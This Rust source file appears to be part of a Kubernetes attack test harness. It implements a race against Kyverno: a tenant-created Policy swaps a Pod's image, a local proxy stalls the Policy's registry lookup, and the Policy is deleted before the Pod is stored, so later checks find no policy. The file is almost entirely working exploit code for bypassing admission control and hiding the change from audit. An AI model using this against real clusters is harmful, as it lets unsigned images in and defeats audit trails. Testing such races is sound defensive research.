//! The attack by a Policy that is gone before its Pod is stored: whatever looks for
//! policies in the namespace, at the Pod or afterwards, finds none.

use std::{sync::Arc, time::Duration};

use anyhow::{Context, Result};
use k8s_openapi::api::core::v1::Pod;
use kube::{
    Api,
    api::{ApiResource, DeleteParams, DynamicObject, PostParams},
    core::GroupVersionKind,
};
use serde_json::{Value, json};
use tokio::{
    io::copy_bidirectional,
    net::{TcpListener, TcpStream},
    sync::watch,
    time::{Instant, sleep, timeout},
};

use crate::prey::{Outcome, Prey};

/// A registry that has everybody wait until it is told to go on.
pub struct SlowRegistry {
    /// Its address, as images name it.
    pub address: String,
    asked: watch::Receiver<bool>,
    goes_on: Arc<watch::Sender<bool>>,
}

impl SlowRegistry {
    /// Stands in front of a registry.
    pub async fn before(registry: &str) -> Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").await?;
        let address = format!("localhost:{}", listener.local_addr()?.port());
        let (asks, asked) = watch::channel(false);
        let goes_on = Arc::new(watch::Sender::new(false));
        let (registry, gate) = (registry.to_owned(), Arc::clone(&goes_on));
        tokio::spawn(async move {
            while let Ok((mut from, _)) = listener.accept().await {
                asks.send_replace(true);
                let (mut open, registry) = (gate.subscribe(), registry.clone());
                tokio::spawn(async move {
                    if open.wait_for(|open| *open).await.is_ok() {
                        let mut to = TcpStream::connect(registry).await?;
                        copy_bidirectional(&mut from, &mut to).await?;
                    }
                    std::io::Result::Ok(())
                });
            }
        });
        Ok(Self { address, asked, goes_on })
    }
}

impl Prey<'_> {
    /// The Policy that swaps an image, which looks something up in a registry first.
    pub fn swap_behind(&self, namespace: &str, registry: &SlowRegistry) -> Result<Value> {
        let mut policy = self.swap(namespace, true);
        policy["spec"]["webhookConfiguration"]["timeoutSeconds"] = json!(30);
        let (_, image) = self.unsigned.split_once('/').context("a registry")?;
        let rule = &mut policy["spec"]["rules"][0];
        let reference = format!("{}/{image}", registry.address);
        rule["context"] = json!([{"name": "slow", "imageRegistry": {"reference": reference}}]);
        let patches = rule["mutate"]["patchesJson6902"].as_str().context("patches")?;
        // What the rule does not use is not looked up.
        let patches = patches.replace("\"2\"", "\"{{ slow.registry }}\"");
        anyhow::ensure!(patches.contains("slow.registry"), "{patches}");
        rule["mutate"]["patchesJson6902"] = json!(patches);
        Ok(policy)
    }

    /// Has the tenant create Pods until one is held up by the slow registry, delete the
    /// Policy meanwhile, and only then lets the registry answer.
    pub async fn run_raced(&self, namespace: &str, registry: &SlowRegistry) -> Result<Outcome> {
        let kind = GroupVersionKind::gvk("kyverno.io", "v1", "Policy");
        let kind = ApiResource::from_gvk_with_plural(&kind, "policies");
        let policies: Api<DynamicObject> =
            Api::namespaced_with(self.tenant.clone(), namespace, &kind);
        let pods: Api<Pod> = Api::namespaced(self.tenant.clone(), namespace);
        let post = PostParams::default();
        let mut asked = registry.asked.clone();
        let deadline = Instant::now() + Duration::from_secs(12);
        while Instant::now() < deadline {
            let pod = self.pod("raced-")?;
            let stored = pods.create(&post, &pod);
            tokio::pin!(stored);
            tokio::select! {
                // Kyverno has not loaded the Policy yet.
                _ = &mut stored => sleep(Duration::from_millis(300)).await,
                seen = asked.wait_for(|asked| *asked) => {
                    seen?;
                    policies.delete("helper", &DeleteParams::default()).await?;
                    anyhow::ensure!(policies.get_opt("helper").await?.is_none(), "it is there");
                    registry.goes_on.send_replace(true);
                    let stored = timeout(Duration::from_secs(40), stored).await?;
                    return self.outcome(&stored).with_context(|| format!("{stored:?}"));
                }
            }
        }
        anyhow::bail!("no Pod was held up")
    }
}
